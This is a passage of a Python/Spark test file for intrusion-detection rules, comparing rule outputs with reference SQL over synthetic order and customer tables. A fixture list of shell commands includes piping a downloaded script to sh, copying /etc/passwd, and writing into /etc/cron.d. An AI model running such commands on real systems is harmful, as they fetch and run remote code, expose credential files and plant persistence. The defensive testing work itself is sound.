y AS (SELECT p_partkey, string_agg(t, ',' ORDER BY o) AS techniques FROM x GROUP BY 1),
z AS (SELECT p_partkey, string_agg(ta, ',' ORDER BY o) AS tactics FROM (SELECT p_partkey, CASE t WHEN 'T1' THEN 'TA1' WHEN 'T2' THEN 'TA2' WHEN 'T3' THEN 'TA1' WHEN 'T9' THEN 'TA3' END AS ta, min(o) AS o FROM x WHERE t <> 'T4' GROUP BY 1, 2) GROUP BY 1)
SELECT p_partkey, coalesce(techniques, '') AS techniques, coalesce(tactics, '') AS tactics FROM part LEFT JOIN y USING (p_partkey) LEFT JOIN z USING (p_partkey)"""


def r13(spark, d):
    f = evidence(spark, d).groupBy("host").agg(F.lit(False).alias("blocked"), F.bool_or((F.col("event_type") == "signup") & (F.col("k") > 60)).alias("has_initial"), F.bool_or((F.col("event_type") == "purchase") & (F.col("k") > 50)).alias("has_execution"),
                                               F.bool_or((F.col("event_type") == "error") & (F.col("k") > 80)).alias("has_lateral"), F.bool_or((F.col("event_type") == "error") & (F.col("k") < 10)).alias("has_exec"))
    return R.verdict_policy(f).select("host", "verdict")


R13_SQL = f"""WITH {EV}, f AS (SELECT host, bool_or(event_type = 'signup' AND k > 60) AS i, bool_or(event_type = 'purchase' AND k > 50) AS x, bool_or(event_type = 'error' AND k > 80) AS l, bool_or(event_type = 'error' AND k < 10) AS e FROM ev GROUP BY host)
SELECT host, CASE WHEN NOT i AND NOT x THEN 'insufficient_evidence' WHEN i AND NOT x AND NOT e THEN 'scanning_or_attempt_only' WHEN i AND x AND l THEN 'confirmed_intrusion_chain' WHEN i AND x THEN 'initial_access_only' ELSE 'likely_intrusion_chain' END AS verdict FROM f"""


def r13_overall(spark, d):
    return R.overall_verdict(R.behavior_policy(items(spark, d), POLICY).withColumn("host", F.concat("host", F.lit("/"), F.col("risk_module"))), ["host"])


R13O_SQL = f"""WITH {POL} SELECT host || '/' || risk_module AS host, CASE WHEN bool_or(req AND NOT sup AND sev2 IN ('P0', 'P1')) THEN 'high_risk_detected' WHEN bool_or(req AND NOT sup) OR bool_or(sev2 IN ('P0', 'P1', 'P2')) THEN 'low_risk_only' ELSE 'no_risk_detected' END AS verdict FROM po GROUP BY ALL"""


def r14(spark, d):
    it = R.detection_output(items(spark, d), R.EXEC_PACK, 0.9, F.col("o_orderkey") % 7 == 0)
    return it.withColumn("risk_tags", R.tags_for(F.col("matched_rules"), R.EXEC_PACK["tags"])).select("o_orderkey", "verdict", "recommended_action", "confidence", F.array_join("risk_tags", ",").alias("tags"))


R14_SQL = f"""WITH {ITEMS}, c AS (SELECT *, (n % 2 = 0)::INT + (n % 3 = 0)::INT + (n % 5 = 0)::INT AS m FROM it)
SELECT o_orderkey, CASE severity WHEN 'P0' THEN 'confirmed_attack' WHEN 'P1' THEN 'suspicious' WHEN 'P2' THEN 'suspicious' WHEN 'P3' THEN 'log_only' ELSE 'likely_false_positive' END AS verdict,
 CASE severity WHEN 'P0' THEN 'isolate_host_and_investigate' WHEN 'P1' THEN 'manual_review_5m' WHEN 'P2' THEN 'observe' WHEN 'P3' THEN 'log_only' ELSE 'observe' END AS recommended_action,
 round(least(0.9, CASE severity WHEN 'P0' THEN CASE WHEN m > 1 THEN 0.88 ELSE 0.85 END WHEN 'P1' THEN 0.78 WHEN 'P2' THEN 0.58 WHEN 'P3' THEN 0.45 ELSE 0.5 END + CASE WHEN n % 7 = 0 THEN 0.06 ELSE 0 END), 2)::DOUBLE AS confidence,
 concat_ws(',', CASE WHEN n % 2 = 0 THEN 'reverse_shell,shell_execution' END, CASE WHEN n % 3 = 0 THEN 'noise' END, CASE WHEN n % 5 = 0 THEN 'persistence' END) AS tags FROM c"""

COMMANDS = ("bash -c 'curl http://h/%d | sh'", "crontab --list %d", "cp /etc/passwd /bak/%d", "tar -xf b%d.tar -C /etc/cron.d", "curl -o /tmp/f%d u && sh /tmp/f%d", "scp -t /in/%d", "tar c /home/u%d | gzip > /tmp/x", "echo 'crontab -e %d' # it's", "wget u%d; cat '/etc/cron.d/a'")


def r01_segments(spark, d):
    """What the command of every order does, and the words it is cut into."""
    o = table(spark, d, "orders").select("o_orderkey", F.replace(F.element_at(F.array(*[F.lit(c) for c in COMMANDS]), (F.col("o_orderkey") % len(COMMANDS) + 1).cast("int")), F.lit("%d"), F.col("o_orderkey").cast("string")).alias("command"))
    told = C.judged(o).select("o_orderkey", "command", *[F.col(f"__cmd.{q}").alias(q) for q in C.QUESTIONS])
    parts = command_parts(F.col("command"))["segments"]
    return told.withColumn("words", F.array_join(F.transform(parts, lambda s: F.concat(s["op"], F.lit(":"), F.array_join(s["argv"], "_"))), "/")).drop("command")


R01S_SQL = """WITH o AS (SELECT o_orderkey, o_orderkey % 9 AS c, o_orderkey AS n FROM orders)
SELECT o_orderkey, c = 3 AS writes_persistence, c IN (0, 4) AS runs_download, c = 5 AS only_receives, c = 6 AS stages_data, CASE c WHEN 0 THEN ':curl_http://h/' || n || '/|:sh' WHEN 1 THEN ':crontab_--list_' || n WHEN 2 THEN ':cp_/etc/passwd_/bak/' || n
  WHEN 3 THEN ':tar_-xf_b' || n || '.tar_-C_/etc/cron.d' WHEN 4 THEN ':curl_-o_/tmp/f' || n || '_u/&&:sh_/tmp/f' || n WHEN 5 THEN ':scp_-t_/in/' || n WHEN 6 THEN ':tar_c_/home/u' || n || '/|:gzip_>_/tmp/x' WHEN 7 THEN ':echo_crontab -e ' || n
  ELSE ':wget_u' || n || '/;:cat_/etc/cron.d/a' END AS words FROM o"""


def r01_argv(spark, d):
    """Shell words of lines that quote a part of each document."""
    t = table(spark, d, "customer").select("c_custkey", F.concat(F.lit("run -n '"), F.col("c_name"), F.lit(" x' \"a b\" c\\ d "), F.col("c_custkey").cast("string")).alias("line"))
    return t.select("c_custkey", F.array_join(split_argv(F.col("line")), "|").alias("words"))


R01A_SQL = "SELECT c_custkey, 'run|-n|' || c_name || ' x|a b|c d|' || c_custkey AS words FROM customer"

CHECKS = {
    "R01_exec_rules": (r01, R01_SQL), "R01_command_segments": (r01_segments, R01S_SQL), "R01_split_argv": (r01_argv, R01A_SQL), "R02_connect_rules": (r02, R02_SQL), "R03_persistence_rules": (r03, R03_SQL), "R04_syslog_rules": (r04, R04_SQL), "R05_dns_rules": (r05, R05_SQL),
    "R06_behavior_policy": (r06, R06_SQL), "R07_whitelist": (r07, R07_SQL), "R08_event_decision": (r08, R08_SQL), "R09_layer1_verdict": (r09, R09_SQL), "R10_layer2_outcome": (r10, R10_SQL),
    "R11_ip_block_guard": (r11, R11_SQL), "R12_attck_map": (r12, R12_SQL), "R13_verdict_policy": (r13, R13_SQL), "R13_overall_verdict": (r13_overall, R13O_SQL), "R14_detection_output": (r14, R14_SQL),
}
